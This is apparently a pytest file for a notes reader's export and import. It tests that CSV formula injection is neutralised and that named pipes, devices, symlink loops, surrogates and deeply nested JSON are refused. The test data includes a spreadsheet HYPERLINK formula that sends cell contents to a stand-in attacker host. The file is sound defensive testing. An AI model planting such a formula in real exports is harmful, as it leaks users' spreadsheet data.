"""Hostile files and paths for notes export and import: refused by name, never a traceback (issue 10)."""

import csv
import io
import json
import os
import stat
import threading
from pathlib import Path

import pytest

from reader.cli import EXIT_OK, EXIT_REFUSED, main
from reader.core.errors import NotesFileError, ReaderError, UnreadableDocument
from reader.core.notes.export import collect_notes, dumps, export_csv, export_json, write_atomically
from reader.core.notes.importer import import_notes, parse_notes
from reader.core.store import open_store
from reader.core.text.document import load_document
from tests.support.sample_notes import annotated_sample, open_sample, write


@pytest.fixture
def store(data_dir):
    store = open_store(data_dir)
    yield store
    store.close()


@pytest.fixture
def exported(tmp_path):
    """The sample annotated in one data folder and exported as JSON: (store, collection)."""
    folder = tmp_path / "first"
    folder.mkdir()
    store = open_store(folder)
    annotated_sample(store)
    return store, json.loads(dumps(export_json(collect_notes(store))))


def _one(collection: dict) -> dict:
    """The collection's first annotation, as a one-item list's element."""
    return json.loads(json.dumps(collection["first"]["items"][0]))


def _refused(text: str, match: str):
    with pytest.raises(NotesFileError, match=match) as caught:
        parse_notes(text)
    return caught.value


# CSV formula injection (item 10)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_cells_a_spreadsheet_would_take_for_a_formula(store, start):
    document, annotations = annotated_sample(store)
    hostile = f"{start}HYPERLINK(\"http://evil.example/?\"&A1, \"klik\")"
    first = annotations[0]
    store.update_annotation(first.edited("2026-12-01T00:00:00.000Z", note=hostile, tags=[f"{start}tag"]))
    rows = list(csv.reader(io.StringIO(export_csv(collect_notes(store)), newline="")))
    row = next(r for r in rows[1:] if r[4].endswith(hostile))
    # OWASP: a leading apostrophe makes the cell text; the rest is kept as written.
    assert row[4] == "'" + hostile
    if start.strip():  # tags lose white space at either end
        assert row[9].startswith("'" + start)
    # Cells that start otherwise are untouched.
    assert row[0] == first.exact and row[1] == document.title


def test_csv_leaves_cells_that_merely_contain_formula_characters(store):
    _, annotations = annotated_sample(store)
    store.update_annotation(annotations[0].edited("2026-12-01T00:00:00.000Z", note="a = b + c - d @ e"))
    rows = list(csv.reader(io.StringIO(export_csv(collect_notes(store)), newline="")))
    assert any(r[4] == "a = b + c - d @ e" for r in rows[1:])


# export -o: links are written through, only regular files or new paths (item 3)


def test_export_through_a_symbolic_link_replaces_the_target_and_keeps_the_link(tmp_path):
    folder = tmp_path / "real"
    folder.mkdir()
    target = folder / "notes.md"
    target.write_text("old")
    target.chmod(0o640)
    link = tmp_path / "link.md"
    link.symlink_to(target)
    write_atomically(link, "new")
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text() == "new" and (target.stat().st_mode & 0o777) == 0o640
    # Written beside the target (same file system), nothing left behind beside the link.
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.md", "real"]
    assert sorted(p.name for p in folder.iterdir()) == ["notes.md"]


def test_export_through_a_chain_of_links_and_a_dangling_link_creates_the_target(tmp_path):
    target = tmp_path / "made.md"
    (tmp_path / "one.md").symlink_to(target)
    (tmp_path / "two.md").symlink_to(tmp_path / "one.md")
    write_atomically(tmp_path / "two.md", "made")
    assert target.read_text() == "made" and (tmp_path / "two.md").is_symlink()


def test_export_refuses_a_named_pipe_and_leaves_it_a_pipe(tmp_path):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with pytest.raises(ReaderError, match=r"pipe.*not a regular file"):
        write_atomically(pipe, "text")
    assert pipe.is_fifo()
    assert [p.name for p in tmp_path.iterdir()] == ["pipe"]


def _null_device(folder: Path) -> Path:
    """A device node like /dev/null in a private folder (a test must never risk the real one)."""
    device = folder / "null"
    try:
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except (PermissionError, AttributeError):
        pytest.skip("making a device node needs root (CAP_MKNOD)")
    return device


def test_export_refuses_a_device_a_folder_and_a_link_loop(tmp_path):
    device = _null_device(tmp_path)
    with pytest.raises(ReaderError, match="device"):
        write_atomically(device, "text")
    assert device.is_char_device()
    with pytest.raises(ReaderError, match="folder"):
        write_atomically(tmp_path, "text")
    loop = tmp_path / "loop.md"
    loop.symlink_to(tmp_path / "loop.md")
    with pytest.raises(ReaderError, match="loop"):
        write_atomically(loop, "text")
    assert loop.is_symlink()


def test_cli_export_onto_a_pipe_exits_1_with_a_message(capsys, tmp_path, data_dir):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    status = main(["export", "--format", "md", "-o", str(pipe), "--data-dir", str(data_dir)])
    assert status == EXIT_REFUSED and "not a regular file" in capsys.readouterr().err
    assert pipe.is_fifo()


# Reading only regular files (items 12 and 16)


def _import_in_thread(store_dir: Path, path: Path) -> tuple[threading.Thread, list]:
    outcome: list = []

    def run():
        store = open_store(store_dir)
        try:
            outcome.append(import_notes(store, path))
        except Exception as error:  # noqa: BLE001 - the test inspects whatever came out
            outcome.append(error)
        finally:
            store.close()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    return thread, outcome


def test_import_refuses_a_named_pipe_without_waiting_for_a_writer(tmp_path, data_dir):
    pipe = tmp_path / "notes.json"
    os.mkfifo(pipe)
    thread, outcome = _import_in_thread(data_dir, pipe)
    thread.join(10)
    if thread.is_alive():  # unblock it, then fail
        with open(pipe, "wb"):
            pass
        thread.join(10)
        pytest.fail("import waited on a named pipe")
    (error,) = outcome
    assert isinstance(error, NotesFileError) and "not a regular file" in str(error)


@pytest.mark.parametrize("path", ["/dev/zero", "/dev/null"])
def test_import_refuses_a_device(data_dir, path):
    store = open_store(data_dir)
    with pytest.raises(NotesFileError, match="device"):
        import_notes(store, Path(path))


def test_import_refuses_a_folder(store, tmp_path):
    with pytest.raises(NotesFileError, match="folder"):
        import_notes(store, tmp_path)


def test_load_document_refuses_a_symbolic_link_loop_by_name(tmp_path):
    loop = tmp_path / "post.txt"
    loop.symlink_to(tmp_path / "other.txt")
    (tmp_path / "other.txt").symlink_to(loop)
    with pytest.raises(UnreadableDocument, match=r"post\.txt.*symbolic link.*loop"):
        load_document(loop)


def test_load_document_refuses_a_named_pipe_without_waiting(tmp_path):
    pipe = tmp_path / "post.txt"
    os.mkfifo(pipe)
    with pytest.raises(UnreadableDocument, match="not a regular file"):
        load_document(pipe)


def test_cli_translate_of_a_link_loop_exits_1_without_a_traceback(capsys, tmp_path, data_dir):
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    assert main(["translate", str(loop), "--data-dir", str(data_dir)]) == EXIT_REFUSED
    err = capsys.readouterr().err
    assert "loop" in err and "Traceback" not in err


# Hostile annotations (item 13): a named refusal, never a traceback


def test_import_refuses_a_time_of_year_1_with_an_offset(exported):
    _, collection = exported
    item = _one(collection)
    item["created"] = "0001-01-01T00:00:00+05:00"
    _refused(json.dumps([item]), r"annotation 1: created '0001-01-01T00:00:00\+05:00' is out of range")


def test_import_refuses_a_position_beyond_any_text(exported):
    _, collection = exported
    item = _one(collection)
    item["target"]["selector"][1]["end"] = 10**30
    _refused(json.dumps([item]), r"annotation 1: its TextPositionSelector.*too large")
    item = _one(collection)
    item["target"]["baca:document"]["block_offset"] = 10**30
    _refused(json.dumps([item]), r"annotation 1: block_offset .* too large")


def test_import_of_a_position_beyond_any_text_leaves_the_store_unchanged(exported, tmp_path):
    store, collection = exported
    item = _one(collection)
    item["id"] = "urn:uuid:00000000-0000-4000-8000-000000000001"
    item["target"]["selector"][1]["start"] = 10**30
    item["target"]["selector"][1]["end"] = 10**30 + 5
    before = len(store.all_annotations())
    with pytest.raises(NotesFileError):
        import_notes(store, write(tmp_path / "big.json", json.dumps([item])))
    assert len(store.all_annotations()) == before


@pytest.mark.parametrize("where", ["note", "tag", "exact"])
def test_import_refuses_a_lone_surrogate_in_any_text(exported, tmp_path, where):
    store, collection = exported
    item = _one(collection)
    item["id"] = "urn:uuid:00000000-0000-4000-8000-000000000002"
    if where == "note":
        item["body"][0]["value"] = "catatan \ud800 rusak"
    elif where == "tag":
        item["body"][1]["value"] = "\udfff"
    else:
        item["target"]["selector"][0]["exact"] = "Selama \udc00"
    path = write(tmp_path / "surrogate.json", json.dumps([item]))  # ensure_ascii: written as \ud800
    with pytest.raises(NotesFileError, match=r"surrogate"):
        import_notes(store, path)
    assert store.annotation("00000000-0000-4000-8000-000000000002") is None


def test_import_accepts_a_surrogate_pair_escaped_in_the_file(exported, tmp_path):
    store, collection = exported
    item = _one(collection)
    item["id"] = "urn:uuid:00000000-0000-4000-8000-000000000003"
    item["body"][0]["value"] = "emoji 😀 \\ud800 as text"
    report = import_notes(store, write(tmp_path / "pair.json", json.dumps([item])))
    assert report.added == 1
    assert store.annotation("00000000-0000-4000-8000-000000000003").note == "emoji 😀 \\ud800 as text"


@pytest.mark.parametrize("depth", [988, 100_000])
def test_import_refuses_deep_nesting_by_name(exported, tmp_path, depth):
    store, collection = exported
    item = _one(collection)
    del item["id"]  # its id would be derived from its whole content
    text = json.dumps([item])[:-2] + ', "extra": ' + "[" * depth + "]" * depth + "}]"
    with pytest.raises(NotesFileError, match=r"nested too deeply \(more than 100 levels"):
        import_notes(store, write(tmp_path / "deep.json", text))


def test_cli_import_of_hostile_annotations_exits_1_without_a_traceback(capsys, exported, tmp_path, data_dir):
    _, collection = exported
    item = _one(collection)
    item["created"] = "0001-01-01T00:00:00+05:00"
    path = write(tmp_path / "bad.json", json.dumps([item]))
    assert main(["import", str(path), "--data-dir", str(data_dir)]) == EXIT_REFUSED
    err = capsys.readouterr().err
    assert "out of range" in err and "Traceback" not in err


def test_cli_import_exits_1_when_it_imports_nothing_it_was_given(capsys, exported, tmp_path, data_dir):
    _, collection = exported
    item = _one(collection)
    del item["target"]["baca:document"]
    item["target"]["source"] = "https://elsewhere.example/post"
    path = write(tmp_path / "elsewhere.json", json.dumps([item]))
    store = open_store(data_dir)
    open_sample(store)
    store.close()
    assert main(["import", str(path), "--data-dir", str(data_dir)]) == EXIT_REFUSED
    assert "Not imported: 1 annotation" in capsys.readouterr().err
    # The same file with one annotation that can be placed imports it, and that is success.
    item["id"] = "urn:uuid:00000000-0000-4000-8000-000000000004"
    placed = _one(collection)
    write(path, json.dumps([item, placed]))
    assert main(["import", str(path), "--data-dir", str(data_dir)]) == EXIT_OK


def test_import_refuses_a_quote_of_only_white_space_by_number(exported):
    _, collection = exported
    item = _one(collection)
    item["target"]["selector"][0]["exact"] = " \n\t"
    _refused(json.dumps([item]), r"annotation 1: its TextQuoteSelector has no exact text")


def test_a_settings_file_that_is_a_named_pipe_is_ignored_without_waiting(tmp_path, caplog):
    from reader.core.platform.files import read_json_object

    pipe = tmp_path / "settings.json"
    os.mkfifo(pipe)
    outcome: list = []
    thread = threading.Thread(target=lambda: outcome.append(read_json_object(pipe, "settings")), daemon=True)
    thread.start()
    thread.join(10)
    if thread.is_alive():
        with open(pipe, "wb"):
            pass
        thread.join(10)
        pytest.fail("reading settings waited on a named pipe")
    assert outcome == [{}] and "not a regular file" in caplog.text
